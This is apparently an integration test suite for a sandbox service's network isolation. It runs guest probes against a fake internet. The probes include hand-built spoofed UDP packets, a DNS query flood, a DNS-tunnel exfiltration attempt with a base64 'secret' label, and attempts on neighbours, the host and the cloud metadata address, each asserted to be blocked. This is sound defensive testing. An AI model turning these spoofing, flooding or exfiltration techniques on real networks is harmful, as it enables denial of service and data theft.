// Sandbox networking against a fake internet made of network namespaces this test creates
// (fake-internet.ts): the server runs in the "host" namespace with networking on, and every
// probe runs inside real sandboxes (python3 of sandtree/debian). Nothing here reaches a real
// outside address.
import { execFile, execFileSync } from "node:child_process";
import { fileURLToPath } from "node:url";
import { ErrorBody } from "@sandtree/protocol";
import { beforeAll, describe, expect, it } from "vitest";
import type { Api } from "./helpers.js";
import { fakeInternetUnavailableReason } from "./network/fake-internet.js";
import { networkedServerForFile, runningWithProbe } from "./network/host-server.js";

const CLI = fileURLToPath(new URL("../../cli/dist/main.js", import.meta.url));
const IMAGE = "sandtree/debian";
const unavailable = fakeInternetUnavailableReason();

/** Probes run in the guest; each prints one line: OK <detail> or ERR <reason>. */
const PROBE = String.raw`
import socket, struct, sys, os, random, urllib.error, urllib.request
def out(s): print(s); sys.exit(0)
cmd = sys.argv[1]
try:
    if cmd == "http":
        body = urllib.request.urlopen(sys.argv[2], timeout=float(sys.argv[3]) if len(sys.argv) > 3 else 4).read().decode()
        out("OK " + body)
    if cmd == "tcp":
        s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=3)
        out("OK connected")
    if cmd == "halfclose":
        # An HTTP/1.0 request, then shutdown of the sending side before reading the answer.
        s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=4)
        s.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n"); s.shutdown(socket.SHUT_WR)
        data = b""
        while True:
            chunk = s.recv(4096)
            if not chunk: break
            data += chunk
        out("OK " + data.decode().split("\r\n\r\n", 1)[-1] if data else "ERR empty")
    if cmd == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
        s.sendto(b"ping", (sys.argv[2], int(sys.argv[3])))
        out("OK " + s.recvfrom(512)[0].decode())
    if cmd == "icmp":
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(3)
        hdr = struct.pack("!BBHHH", 8, 0, 0, 7, 1); data = b"sandtree"
        c = sum(struct.unpack("!%dH" % ((len(hdr + data)) // 2), hdr + data)); c = (c >> 16) + (c & 0xffff); c = ~(c + (c >> 16)) & 0xffff
        s.sendto(struct.pack("!BBHHH", 8, 0, c, 7, 1) + data, (sys.argv[2], 0))
        while True:
            pkt, addr = s.recvfrom(1024)
            if pkt[20] == 0: out("OK reply from " + addr[0])
    if cmd == "dns":
        server = sys.argv[3] if len(sys.argv) > 3 else open("/etc/resolv.conf").read().split("nameserver")[1].split()[0]
        q = struct.pack("!HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
        for label in sys.argv[2].split("."): q += bytes([len(label)]) + label.encode()
        q += b"\0" + struct.pack("!HH", 1, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, (server, 53))
        r = s.recvfrom(2048)[0]
        rcode = r[3] & 15; an = struct.unpack("!H", r[6:8])[0]
        # The answers' A records; an owner name is labels or a compression pointer.
        ips, i = [], len(q)
        for _ in range(an):
            while r[i] and r[i] < 0xc0: i += r[i] + 1
            i += 2 if r[i] else 1
            rtype, rdlen = struct.unpack("!H", r[i:i + 2])[0], struct.unpack("!H", r[i + 8:i + 10])[0]
            if rtype == 1 and rdlen == 4: ips.append(socket.inet_ntoa(r[i + 10:i + 14]))
            i += 10 + rdlen
        out(("OK " + ",".join(ips)) if rcode == 0 and an else "ERR rcode=%d" % rcode)
    if cmd == "spoof":
        # A UDP packet with another source address, built by hand (IP_HDRINCL).
        src, dst, port = sys.argv[2], sys.argv[3], int(sys.argv[4]); data = b"spoofed"
        udp = struct.pack("!HHHH", 4242, port, 8 + len(data), 0) + data
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        s.sendto(ip + udp, (dst, 0)); out("OK sent")
    if cmd == "dnsflood":
        # Many queries as fast as possible; counts what came back (answers vs REFUSED).
        n = int(sys.argv[2]); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, 33, 16 << 20)  # SO_RCVBUFFORCE
        server = open("/etc/resolv.conf").read().split("nameserver")[1].split()[0]
        got = {}
        def drain(wait):
            s.settimeout(wait)
            try:
                while True:
                    r = s.recvfrom(2048)[0]; rc = r[3] & 15; got[rc] = got.get(rc, 0) + 1; s.settimeout(wait)
            except (socket.timeout, BlockingIOError): pass
        for i in range(n):
            q = struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0) + b"\x05flood\x04test\x00" + struct.pack("!HH", 1, 1)
            s.sendto(q, (server, 53))
            if i % 100 == 99: drain(0.001)
        drain(2)
        out("OK " + " ".join("rcode%d=%d" % kv for kv in sorted(got.items())))
except SystemExit: raise
except Exception as e:
    # The failure's class: a dropped packet times out, a reset is refused, a name that does not
    # resolve is NXDOMAIN (urllib wraps the socket's error in URLError.reason).
    r = e.reason if isinstance(e, urllib.error.URLError) and isinstance(e.reason, BaseException) else e
    if isinstance(e, urllib.error.HTTPError): out("ERR http %d" % e.code)
    if isinstance(r, TimeoutError): out("ERR timeout")
    if isinstance(r, ConnectionRefusedError): out("ERR refused")
    if isinstance(r, socket.gaierror) and r.errno == socket.EAI_NONAME: out("ERR nxdomain")
    out("ERR " + type(r).__name__ + " " + str(r)[:80])
`;

describe.skipIf(unavailable !== null)(`sandbox networking${unavailable ? ` (skipped: ${unavailable})` : ""}`, () => {
  // `sandtree serve` in the host namespace (networking on, default policy deny-all).
  // A DNS budget of 50/s (burst 100): the flood below outruns it however slowly the guest sends.
  const world = networkedServerForFile({
    SANDTREE_NETWORK_DEFAULT: "deny",
    SANDTREE_NETWORK_SUBNET: "10.77.0.0/16",
    SANDTREE_DNS_RATE: "50/100",
  });
  let base = "";
  let api: Api;
  const ids: Record<string, string> = {};
  const hostNs = (cmd: string, ...argv: string[]) => world.server.hostNs(cmd, ...argv);

  /** Runs the probe in a sandbox and returns its line. */
  async function probe(id: string, ...args: string[]): Promise<string> {
    const r = await api("POST", `/v1/sandboxes/${id}/exec`, { command: ["python3", "/tmp/probe.py", ...args] });
    if (r.status !== 200) throw new Error(`exec failed: ${r.status} ${JSON.stringify(r.body)}`);
    return String(r.body.stdout).trim();
  }

  /** Probes run side by side, their lines in order: each blocked one waits out its own timeout (3-4 s). */
  const probes = (id: string, ...each: string[][]): Promise<string[]> => Promise.all(each.map((args) => probe(id, ...args)));

  async function create(body: Record<string, unknown>): Promise<string> {
    const r = await api("POST", "/v1/sandboxes", { image: IMAGE, memory_gb: 0.375, ...body });
    if (r.status !== 201) throw new Error(`create failed: ${r.status} ${JSON.stringify(r.body)}`);
    return r.body.id as string;
  }

  async function waitRunning(id: string): Promise<void> {
    await runningWithProbe(api, id, PROBE, 900);
  }

  beforeAll(async () => {
    base = world.server.base;
    api = world.server.api;
    const tunnelTarget = await world.inet.startHostService(0, "127.0.0.1");
    // allow: an allowlist of names, a wildcard and a CIDR; deny: a denylist; closed: the server's
    // default (deny all) with a tunnel to a service on the host's loopback.
    ids.allow = await create({ network_allowlist: ["allowed.test", "*.wild.test", "203.0.113.20/32"] });
    ids.deny = await create({ network_denylist: ["denied.test"] });
    ids.closed = await create({ tunnels: { llm: `127.0.0.1:${tunnelTarget.port}` } });
    await Promise.all(Object.values(ids).map(waitRunning));
  }, 600_000);

  it("gives each sandbox its own address and reports the policy as applied", async () => {
    const views = await Promise.all(Object.values(ids).map((id) => api("GET", `/v1/sandboxes/${id}/network`)));
    const addrs = views.map((v) => v.body.address);
    expect(new Set(addrs).size).toBe(3);
    for (const v of views) {
      expect(v.status).toBe(200);
      expect(v.body.applied).toBe(true);
      expect(v.body.address).toMatch(/^10\.77\./);
    }
    expect(views[0]?.body.mode).toBe("allowlist");
    expect(views[1]?.body.mode).toBe("denylist");
    expect(views[2]?.body.mode).toBe("deny_all");
    expect(views[2]?.body.tunnels).toEqual([expect.objectContaining({ name: "llm", hostname: "llm.sandtree.internal" })]);
  });

  it("shapes each sandbox's tap both ways at its team's rate: tbf on the tap, and on the ifb its ingress goes to", () => {
    const taps = hostNs("ip", "-o", "link")
      .split("\n")
      .map((l) => /: (st[0-9a-f]{4}-[0-9]+)[:@]/.exec(l)?.[1])
      .filter((t): t is string => t !== undefined);
    expect(taps.length).toBeGreaterThanOrEqual(3);
    for (const tap of taps) {
      expect(hostNs("tc", "qdisc", "show", "dev", tap)).toMatch(/qdisc tbf .*rate 1Gbit/);
      expect(hostNs("tc", "filter", "show", "dev", tap, "ingress")).toContain(`Redirect to device si${tap.slice(2)}`);
      expect(hostNs("tc", "qdisc", "show", "dev", `si${tap.slice(2)}`)).toMatch(/qdisc tbf .*rate 1Gbit/);
    }
  });

  it("allowlist: allowed names, wildcards and CIDRs are reachable; everything else is blocked over TCP, UDP and ICMP", async () => {
    await world.inet.clearLog();
    expect(await probe(ids.allow as string, "http", "http://allowed.test/")).toBe("OK hello from 203.0.113.10");
    expect(await probe(ids.allow as string, "http", "http://deep.api.wild.test/")).toBe("OK hello from 203.0.113.30");
    expect(await probe(ids.allow as string, "http", "http://203.0.113.20/")).toBe("OK hello from 203.0.113.20");
    expect(await probe(ids.allow as string, "udp", "203.0.113.20", "7")).toBe("OK echo:ping");
    // The denied name is answered NXDOMAIN by our resolver and never asked upstream.
    expect(await probe(ids.allow as string, "dns", "denied.test")).toBe("ERR rcode=3");
    // Its address, directly: TCP, UDP and ICMP are dropped (no answer, not even a reset).
    const [tcp40, udp40, icmp40] = await probes(
      ids.allow as string,
      ["tcp", "203.0.113.40", "80"],
      ["udp", "203.0.113.40", "7"],
      ["icmp", "203.0.113.40"],
    );
    expect(tcp40).toBe("ERR timeout");
    expect(udp40).toBe("ERR timeout");
    expect(icmp40).toBe("ERR timeout");
    // Another DNS server, directly: port 53 anywhere is our resolver, which refuses the name.
    expect(await probe(ids.allow as string, "dns", "denied.test", "198.51.100.53")).toBe("ERR rcode=3");
    // other.test exists upstream but is not allowed: the sandbox's resolver says it does not.
    expect(await probe(ids.allow as string, "http", "http://other.test/", "3")).toBe("ERR nxdomain");
    // A name outside the allowlist is never asked upstream: no data can leave through DNS
    // (the server itself does resolve denied.test, for the other sandbox's denylist).
    expect(await probe(ids.allow as string, "dns", "c2VjcmV0.exfil.other.test")).toBe("ERR rcode=3");
    expect(await probe(ids.allow as string, "dns", "c2VjcmV0.exfil.other.test", "198.51.100.53")).toBe("ERR rcode=3");
    const log = await world.inet.log();
    expect(log.filter((e) => e.kind === "dns" && String(e.name).includes("exfil"))).toEqual([]);
    expect(log.filter((e) => "local" in e && String(e.local).startsWith("203.0.113.40"))).toEqual([]);
    expect(await probe(ids.allow as string, "icmp", "203.0.113.20")).toBe("OK reply from 203.0.113.20");
  });

  it("a wildcard-allowed name that moves to a new address stays reachable", async () => {
    await world.inet.setDns("api.wild.test", ["203.0.113.40"]);
    expect(await probe(ids.allow as string, "http", "http://api.wild.test/")).toBe("OK hello from 203.0.113.40");
    await world.inet.setDns("api.wild.test", ["203.0.113.30"]);
  });

  it("denylist: denied names and their addresses are blocked, the rest is reachable", async () => {
    await world.inet.clearLog();
    expect(await probe(ids.deny as string, "http", "http://allowed.test/")).toBe("OK hello from 203.0.113.10");
    expect(await probe(ids.deny as string, "dns", "denied.test")).toBe("ERR rcode=3");
    const [http40, udp40] = await probes(ids.deny as string, ["http", "http://203.0.113.40/", "3"], ["udp", "203.0.113.40", "7"]);
    expect(http40).toBe("ERR timeout");
    expect(udp40).toBe("ERR timeout");
  });

  it("sandboxes reach neither each other nor the host's services", async () => {
    const host = await world.inet.startHostService(0, "0.0.0.0");
    const allowView = (await api("GET", `/v1/sandboxes/${ids.allow}/network`)).body;
    const denyView = (await api("GET", `/v1/sandboxes/${ids.deny}/network`)).body;
    await api("POST", `/v1/sandboxes/${ids.allow}/exec`, {
      command: "cd /tmp && (setsid python3 -m http.server 8080 >/dev/null 2>&1 &)",
    });
    // Listening, as its own sandbox sees: so what follows is blocked, not merely absent.
    for (let i = 0; i < 50 && (await probe(ids.allow as string, "tcp", "127.0.0.1", "8080")) !== "OK connected"; i++)
      await new Promise((r) => setTimeout(r, 200));
    expect(await probe(ids.allow as string, "tcp", "127.0.0.1", "8080")).toBe("OK connected");
    // deny's policy allows almost everything: still not another sandbox, the host or its gateway.
    const [neighbour, hostPort, gatewayPort, gatewayPing, metadata] = await probes(
      ids.deny as string,
      ["tcp", allowView.address, "8080"],
      ["tcp", "198.51.100.1", String(host.port)],
      ["tcp", denyView.gateway, String(host.port)],
      ["icmp", denyView.gateway],
      ["tcp", "169.254.169.254", "80"],
    );
    expect(neighbour).toBe("ERR timeout");
    expect(hostPort).toBe("ERR timeout");
    expect(gatewayPort).toBe("ERR timeout");
    expect(gatewayPing).toBe("ERR timeout");
    expect(metadata).toBe("ERR timeout");
    expect(host.hits).toEqual([]);
    await host.close();
  });

  it("attacks: spoofed source addresses are dropped, a DNS flood hits only its own rate limit", async () => {
    await world.inet.clearLog();
    const allowView = (await api("GET", `/v1/sandboxes/${ids.allow}/network`)).body;
    // deny (allow-most) pretends to be allow, and then to be an outside host.
    expect(await probe(ids.deny as string, "spoof", allowView.address, "203.0.113.20", "7")).toBe("OK sent");
    expect(await probe(ids.deny as string, "spoof", "203.0.113.10", "203.0.113.20", "7")).toBe("OK sent");
    const flood = await probe(ids.deny as string, "dnsflood", "2000");
    console.log("dns flood:", flood);
    expect(flood).toMatch(/rcode5=\d+/); // REFUSED beyond the per-source budget
    // Meanwhile another sandbox still resolves.
    expect(await probe(ids.allow as string, "dns", "allowed.test")).toBe("OK 203.0.113.10");
    const log = await world.inet.log();
    expect(log.filter((e) => e.kind === "udp")).toEqual([]);
  });

  it("a tunnel reaches a host service under deny-all, and nothing else does", async () => {
    expect(await probe(ids.closed as string, "dns", "llm.sandtree.internal")).toMatch(/^OK 169\.254\.170\.1/);
    const port = (await api("GET", `/v1/sandboxes/${ids.closed}/network`)).body.tunnels[0].target.split(":")[1];
    expect(await probe(ids.closed as string, "http", `http://llm.sandtree.internal:${port}/`)).toBe("OK host-secret");
    // A client that half-closes after its request still gets the whole answer.
    expect(await probe(ids.closed as string, "halfclose", "169.254.170.1", port)).toBe("OK host-secret");
    expect(await probe(ids.closed as string, "http", "http://allowed.test/", "3")).toBe("ERR nxdomain");
    expect(await probe(ids.closed as string, "tcp", "203.0.113.10", "80")).toBe("ERR timeout");
  });

  it("an exposed port serves HTTP through the server and refuses a wrong token", async () => {
    const exp = await api("POST", `/v1/sandboxes/${ids.allow}/ports`, { port: 8080 });
    expect(exp.status).toBe(201);
    const p = new URL(exp.body.url).pathname;
    const ok = await fetch(`${base}${p}`, { headers: { "x-sandtree-token": exp.body.token } });
    expect(ok.status).toBe(200);
    expect(await ok.text()).toContain("probe.py");
    const bad = await fetch(`${base}${p}`, { headers: { "x-sandtree-token": "wrong" } });
    expect(bad.status).toBe(401);
    expect(ErrorBody.parse(await bad.json()).code).toBe("PORT_TOKEN_INVALID");
  });

  it("a runtime policy change applies to the next attempt, and a fork gets its own address", async () => {
    const put = await api("PUT", `/v1/sandboxes/${ids.allow}/network`, { network_allowlist: ["other.test"] });
    expect(put.status).toBe(200);
    expect(put.body).toMatchObject({ mode: "allowlist", network_allowlist: ["other.test"], applied: true });
    expect(await probe(ids.allow as string, "http", "http://allowed.test/", "3")).toBe("ERR nxdomain");
    expect(await probe(ids.allow as string, "http", "http://other.test/")).toBe("OK hello from 203.0.113.20");
    const bad = await api("PUT", `/v1/sandboxes/${ids.allow}/network`, {
      network_allowlist: ["a.test"],
      network_denylist: ["b.test"],
    });
    expect(bad.status).toBe(400);
    // A memory fork resumes the parent's processes with a new address and the parent's policy.
    const fork = await api("POST", `/v1/sandboxes/${ids.allow}/fork`, { memory: true });
    expect(fork.status).toBe(201);
    const child = fork.body.id as string;
    await waitRunning(child);
    // It mapped the checkpoint's RAM image: the image's builder loads a stream saved with a tap
    // (virtio-net's vnet_hdr) only when it has a tap of its own.
    const logs = await api("GET", `/v1/sandboxes/${child}/logs`);
    expect(JSON.stringify(logs.body)).toContain("restoring its memory (copy-on-write RAM image)");
    const childView = (await api("GET", `/v1/sandboxes/${child}/network`)).body;
    const parentView = (await api("GET", `/v1/sandboxes/${ids.allow}/network`)).body;
    expect(childView.address).not.toBe(parentView.address);
    expect(childView.network_allowlist).toEqual(["other.test"]);
    expect(await probe(child, "http", "http://other.test/")).toBe("OK hello from 203.0.113.20");
    const del = await api("DELETE", `/v1/sandboxes/${child}`);
    expect(del.status).toBe(200);
    const taps = execFileSync("ip", ["netns", "exec", world.inet.hostNs, "ip", "-o", "link"]).toString();
    // The child's tap went with it: the three sandboxes' taps are left (template taps end in -t<n>).
    expect(taps.split("\n").filter((l) => /: st[0-9a-f]{4}-[0-9]+[:@]/.test(l))).toHaveLength(3);
  });

  it("a policy change cuts a live connection at its next packet", async () => {
    // A TCP connection to an allowed echo server stays open across the policy change.
    const live = String.raw`
import socket, os, time
s = socket.create_connection(("203.0.113.10", 7), timeout=3)
s.sendall(b"one"); first = s.recv(16)
open("/tmp/live.out", "w").write("first %s\n" % first.decode())
while not os.path.exists("/tmp/go"): time.sleep(0.05)
try:
    s.sendall(b"two"); second = s.recv(16); res = "second %s" % second.decode()
except Exception as e: res = "second ERR %s" % type(e).__name__
open("/tmp/live.out", "a").write(res + "\n")
`;
    const id = ids.allow as string;
    await api("PUT", `/v1/sandboxes/${id}/network`, { network_allowlist: ["203.0.113.10"] });
    await api("PUT", `/v1/sandboxes/${id}/files?path=/tmp/live.py`, new TextEncoder().encode(live), {
      "content-type": "application/octet-stream",
    });
    await api("POST", `/v1/sandboxes/${id}/exec`, {
      command: "rm -f /tmp/go /tmp/live.out; (setsid python3 /tmp/live.py >/tmp/live.err 2>&1 &)",
    });
    const read = async () =>
      String((await api("POST", `/v1/sandboxes/${id}/exec`, { command: "cat /tmp/live.out 2>/dev/null" })).body.stdout);
    for (let i = 0; i < 100 && !(await read()).includes("first"); i++) await new Promise((r) => setTimeout(r, 200));
    expect(await read()).toBe("first one\n");
    await api("PUT", `/v1/sandboxes/${id}/network`, { network_allowlist: ["203.0.113.20"] });
    await api("POST", `/v1/sandboxes/${id}/exec`, { command: "touch /tmp/go" });
    for (let i = 0; i < 100 && !(await read()).includes("second"); i++) await new Promise((r) => setTimeout(r, 200));
    // Its next packet is dropped: no answer and no reset, so the read times out.
    expect(await read()).toBe("first one\nsecond ERR TimeoutError\n");
  });

  it("the CLI shows and changes a policy (through the SDK)", async () => {
    // Asynchronous: the API bridge runs in this process's event loop.
    const cli = (...argv: string[]) =>
      new Promise<{ code: number; out: string }>((resolve) => {
        execFile(
          process.execPath,
          [CLI, ...argv],
          { env: { ...process.env, SANDTREE_API_URL: base, SANDTREE_API_KEY: world.server.key() } },
          (err, stdout, stderr) =>
            resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, out: err ? stderr : stdout }),
        );
      });
    const id = ids.allow as string;
    const set = await cli(
      "sandbox",
      "network",
      id,
      "--allow",
      "allowed.test,*.wild.test",
      "--allow",
      "203.0.113.0/28",
      "-o",
      "json",
    );
    expect(set.code).toBe(0);
    expect(JSON.parse(set.out)).toMatchObject({
      mode: "allowlist",
      network_allowlist: ["allowed.test", "*.wild.test", "203.0.113.0/28"],
      applied: true,
    });
    expect(await probe(id, "http", "http://allowed.test/")).toBe("OK hello from 203.0.113.10");
    const shown = await cli("sandbox", "network", id);
    expect(shown.out).toMatch(/mode:\s+allowlist/);
    expect(shown.out).toMatch(/applied:\s+true/);
    const both = await cli("sandbox", "network", id, "--allow", "a.test", "--deny", "b.test");
    expect(both.code).not.toBe(0);
    const badRule = await cli("sandbox", "network", id, "--deny", "not a rule!");
    expect(badRule.code).not.toBe(0);
    expect(badRule.out).toContain("VALIDATION_FAILED");
  });

  it("after a crash of the server and one VM, the survivor keeps its network and nothing of the dead one is left", async () => {
    const dead = ids.deny as string;
    const deadTap = (await api("GET", `/v1/sandboxes/${dead}/network`)).body;
    const qemu = execFileSync("pgrep", ["-f", `sandtree-${dead}`])
      .toString()
      .trim()
      .split("\n")[0] as string;
    const serverGone = world.server.kill("SIGKILL");
    process.kill(Number(qemu), "SIGKILL");
    await serverGone;
    await world.server.restart();
    const gone = (await api("GET", `/v1/sandboxes/${dead}`)).body;
    expect(gone.status).toBe("ERROR");
    const links = hostNs("ip", "-o", "addr");
    expect(links).not.toContain(`${deadTap.gateway}/30`);
    const rules = hostNs("nft", "list", "ruleset");
    expect(rules).not.toContain(deadTap.address);
    // The survivor was adopted: its tunnel (a new proxy port) and its deny-all policy still hold.
    expect((await api("GET", `/v1/sandboxes/${ids.closed}`)).body.status).toBe("RUNNING");
    const view = (await api("GET", `/v1/sandboxes/${ids.closed}/network`)).body;
    expect(view.applied).toBe(true);
    const tport = view.tunnels[0].target.split(":")[1];
    expect(await probe(ids.closed as string, "http", `http://llm.sandtree.internal:${tport}/`)).toBe("OK host-secret");
    expect(await probe(ids.closed as string, "tcp", "203.0.113.10", "80")).toBe("ERR timeout");
  });

  it("a stopped server leaves no tap, rule or forwarding behind", async () => {
    const taps = () =>
      hostNs("ip", "-o", "link")
        .split("\n")
        .filter((l) => /: st[0-9a-f]{4}-/.test(l));
    expect(taps().length).toBeGreaterThan(0);
    await world.server.kill("SIGTERM");
    expect(taps()).toEqual([]);
    // Their ifbs (the shaping of traffic from each guest) went with them.
    expect(
      hostNs("ip", "-o", "link")
        .split("\n")
        .filter((l) => /: si[0-9a-f]{4}-/.test(l)),
    ).toEqual([]);
    expect(hostNs("nft", "list", "tables")).not.toContain("sandtree_");
    expect(hostNs("cat", "/proc/sys/net/ipv4/ip_forward").trim()).toBe("0");
  });
});
